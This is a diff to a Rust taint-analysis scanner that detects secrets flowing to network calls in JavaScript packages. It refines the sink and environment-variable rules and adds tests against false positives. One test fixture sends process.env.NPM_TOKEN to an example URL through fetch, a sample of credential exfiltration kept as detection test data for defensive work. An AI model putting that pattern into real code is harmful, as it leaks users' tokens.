@@ -199,9 +199,7 @@ fn is_sink(p: &str) -> bool {
     // A client module (`axios.post`, `got.post`, `needle('post', …)`, `node-fetch`).
     (crate::rules::network::NET_MODULES.contains(&root) && (sending || head == root && method.is_empty()))
         // The result of a request or socket: `https.request.end(body)`, `net.connect.write(x)`.
-        || (matches!(method, "write" | "end" | "send")
-            && (crate::rules::network::is_net_call(head)
-                || crate::rules::network::NET_MODULES.iter().any(|m| head.starts_with(&format!("{m}.")))))
+        || (matches!(method, "write" | "end" | "send") && crate::rules::network::is_net_call(head))
 }
 
 impl Tracker<'_, '_> {
@@ -309,12 +307,22 @@ impl Tracker<'_, '_> {
                         return secret_var(v).then(|| (Source::Token, p.clone()));
                     }
                 }
-                let obj = match e.without_parentheses() {
-                    Expression::StaticMemberExpression(m) => &m.object,
-                    Expression::ComputedMemberExpression(m) => &m.object,
+                let (obj, prop) = match e.without_parentheses() {
+                    Expression::StaticMemberExpression(m) => {
+                        (&m.object, Some(m.property.name.as_str()))
+                    }
+                    Expression::ComputedMemberExpression(m) => (&m.object, None),
                     _ => return None,
                 };
-                self.taint_of(obj, depth + 1)
+                let t = self.taint_of(obj, depth + 1)?;
+                // One variable of the whole environment (`env[key]`, `env.HOME`) is that
+                // variable, not every secret.
+                if t.1 == "process.env" {
+                    return prop
+                        .filter(|p| secret_var(p))
+                        .map(|p| (Source::Token, format!("process.env.{p}")));
+                }
+                Some(t)
             }
             Expression::CallExpression(c) => {
                 if let Expression::Identifier(id) = c.callee.without_parentheses()
@@ -402,6 +410,10 @@ impl Tracker<'_, '_> {
                 self.taint_of(&b.left, depth + 1),
                 self.taint_of(&b.right, depth + 1),
             ),
+            // `a && b` is `b` when it is anything worth sending.
+            Expression::LogicalExpression(l) if l.operator == LogicalOperator::And => {
+                self.taint_of(&l.right, depth + 1)
+            }
             Expression::LogicalExpression(l) => best(
                 self.taint_of(&l.left, depth + 1),
                 self.taint_of(&l.right, depth + 1),
@@ -686,6 +698,25 @@ require("https").get("https://t.example/v?c=" + version());"#;
 const key = process.env.ACME_API_KEY;
 https.request({ host: "api.acme.example", headers: { Authorization: "Bearer " + key } }).end(JSON.stringify({ q: 1 }));
 const env = process.env; require("child_process").spawn("node", ["x.js"], { env });"#;
+        assert!(flows(src).is_empty());
+    }
+
+    #[test]
+    fn one_variable_of_the_environment_is_not_the_environment() {
+        // @tybys/wasm-util 0.10.5: a per-drive cwd read from `env[key]` ends up in a fetch URL.
+        let src = r#"const env = typeof process !== "undefined" ? process.env : undefined;
+let p = env && env["=C:"]; fetch(p + "/x.wasm");
+const t = env.NPM_TOKEN; fetch("https://r.example/?t=" + t);"#;
+        let f = flows(src);
+        assert_eq!(f.len(), 1, "{f:?}");
+        assert_eq!(f[0].0, Source::Token);
+    }
+
+    #[test]
+    fn a_dev_server_message_is_not_a_network_request() {
+        // vite 5.2.10: `server.hot.send(...)` on the result of http.createServer.
+        let src = r#"const http = require("http"); const server = http.createServer(); const env = process.env;
+server.hot.send({ type: "update", env });"#;
         assert!(flows(src).is_empty());
     }
 
